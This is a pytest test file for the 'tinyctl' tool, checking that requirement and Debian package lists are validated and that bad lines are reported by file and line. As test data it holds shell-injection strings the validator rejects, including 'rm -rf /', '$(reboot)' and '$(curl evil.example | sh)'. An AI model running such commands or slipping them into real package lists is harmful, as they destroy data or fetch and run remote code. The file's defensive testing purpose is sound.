"""Requirements and system packages: inline or from files, validated line by line (exit 2)."""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from conftest import tinyctl

from tinyctl.errors import SpecError
from tinyctl.spec import load_spec
from tinyctl.spec.image_inputs import image_inputs, package_problem, requirement_problem
from tinyctl.spec.loaded import LoadedSpec
from tinyctl.spec.loader import parse_spec


def _edit(project: Path, old: str, new: str) -> Path:
    spec = project / "tinyctl.yaml"
    text = spec.read_text()
    assert old in text
    spec.write_text(text.replace(old, new, 1))
    return spec


def _with_airflow_keys(project: Path, keys: str) -> Path:
    return _edit(project, "  config:\n", keys + "  config:\n")


@pytest.mark.parametrize(
    "text", ["pandas==2.2.3", "requests[socks]>=2.31,<3", "foo @ https://example.com/foo.whl"]
)
def test_pep508_requirements_pass(text: str) -> None:
    assert requirement_problem(text) is None


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ("-r other.txt", "pip option"),
        ("--index-url https://evil.example/simple", "pip option"),
        ("-e .", "pip option"),
        ("pandas===", "not a PEP 508 requirement"),
        ("pandas; rm -rf /", "not a PEP 508 requirement"),
    ],
)
def test_pip_options_and_garbage_are_refused(text: str, says: str) -> None:
    assert says in (requirement_problem(text) or "")


@pytest.mark.parametrize("text", ["jq", "unixodbc", "libpq5", "g++", "libc6.1-dev", "jq=1.6-2.1"])
def test_debian_package_names_pass(text: str) -> None:
    assert package_problem(text) is None


@pytest.mark.parametrize(
    "text",
    ["jq; rm -rf /", "$(reboot)", "jq && curl x", "`id`", "Jq", "j", "-o", "jq=", "jq=$(x)", "a b"],
)
def test_package_names_with_shell_metacharacters_are_refused(text: str) -> None:
    assert package_problem(text) is not None


def test_inline_lists_are_validated_at_their_line(project: Path) -> None:
    spec = _with_airflow_keys(
        project, '  requirements: ["pandas==2.2.3", "--pre"]\n  system_packages: ["jq; reboot"]\n'
    )
    with pytest.raises(SpecError) as caught:
        load_spec(spec)
    problems = {p.path: p for p in caught.value.problems}
    assert "pip option" in problems["airflow.requirements[1]"].message
    assert "Debian package name" in problems["airflow.system_packages[0]"].message
    line = spec.read_text().splitlines().index('  system_packages: ["jq; reboot"]') + 1
    assert problems["airflow.system_packages[0]"].line == line


def test_files_are_read_with_comments_and_blank_lines(project: Path) -> None:
    (project / "requirements.txt").write_text(
        "# pinned\npandas==2.2.3  # the data frames\n\nhumanize>=4\n"
    )
    (project / "packages.txt").write_text("jq\n# odbc\nunixodbc\n")
    spec = _with_airflow_keys(
        project, "  requirements: requirements.txt\n  system_packages: packages.txt\n"
    )
    inputs = image_inputs(load_spec(spec))
    assert inputs.requirements == ("pandas==2.2.3", "humanize>=4")
    assert inputs.system_packages == ("jq", "unixodbc")
    assert inputs.packages_txt() == b"jq\nunixodbc\n"


def test_bad_lines_in_files_are_reported_as_file_and_line(project: Path) -> None:
    (project / "requirements.txt").write_text("pandas==2.2.3\n--extra-index-url http://x\n")
    (project / "packages.txt").write_text("jq\n\njq;rm -rf /\n")
    spec = _with_airflow_keys(
        project, "  requirements: requirements.txt\n  system_packages: packages.txt\n"
    )
    with pytest.raises(SpecError) as caught:
        load_spec(spec)
    where = {(p.file.name, p.line): p.message for p in caught.value.problems}
    assert "pip option" in where[("requirements.txt", 2)]
    assert "Debian package name" in where[("packages.txt", 3)]


def test_a_requirement_written_where_a_file_is_expected_says_use_a_list(project: Path) -> None:
    spec = _with_airflow_keys(project, "  requirements: pandas==2.2.3\n")
    with pytest.raises(SpecError) as caught:
        load_spec(spec)
    assert "write a list ([pandas==2.2.3])" in caught.value.problems[0].message


def _unreadable(path: Path) -> None:
    """A file whose read fails for real: mode 000, or for root (who reads anything) a symlink
    to /proc/self/mem, whose first page is never mapped (EIO)."""
    if os.geteuid() != 0:
        path.write_text("pandas\n")
        path.chmod(0)
    else:
        path.symlink_to("/proc/self/mem")


def test_missing_unreadable_and_folder_files_are_errors_at_the_spec_line(project: Path) -> None:
    spec = _with_airflow_keys(project, "  requirements: requirements.txt\n")
    line = spec.read_text().splitlines().index("  requirements: requirements.txt") + 1
    with pytest.raises(SpecError) as caught:
        load_spec(spec)
    assert caught.value.problems[0].line == line
    assert "does not exist" in caught.value.problems[0].message

    _unreadable(project / "requirements.txt")
    with pytest.raises(SpecError) as caught:
        load_spec(spec)
    assert caught.value.problems[0].line == line
    assert "cannot read requirements file 'requirements.txt'" in caught.value.problems[0].message


def test_cli_exits_2_naming_the_file_and_line(project: Path) -> None:
    (project / "packages.txt").write_text("jq\n$(curl evil.example | sh)\n")
    _with_airflow_keys(project, "  system_packages: packages.txt\n")
    result = tinyctl("validate", cwd=project)
    assert result.returncode == 2, result.stdout + result.stderr
    text = " ".join((result.stdout + result.stderr).split())
    assert "packages.txt:2" in text
    assert "Traceback" not in text


def test_content_changes_change_the_build_digest_but_comments_do_not(project: Path) -> None:
    from tinyctl.targets.docker.images import plan_images

    (project / "requirements.txt").write_text("cowsay==6.0\n")
    spec = _with_airflow_keys(project, "  requirements: requirements.txt\n")

    def digest() -> str:
        text = spec.read_text().replace("source: official", "source: debian")
        parsed, positions = parse_spec(text, spec)
        loaded = LoadedSpec(spec=parsed, file=spec, positions=positions)
        (plan,) = [p for p in plan_images(loaded, {}) if p.service == "airflow-init"]
        assert plan.image.startswith("tinyctl-demo/airflow:")
        return plan.build.digest

    first = digest()
    (project / "requirements.txt").write_text("# a comment\ncowsay==6.0   # talks\n")
    assert digest() == first
    (project / "requirements.txt").write_text("cowsay==6.0\npyfiglet==1.0.2\n")
    assert digest() != first
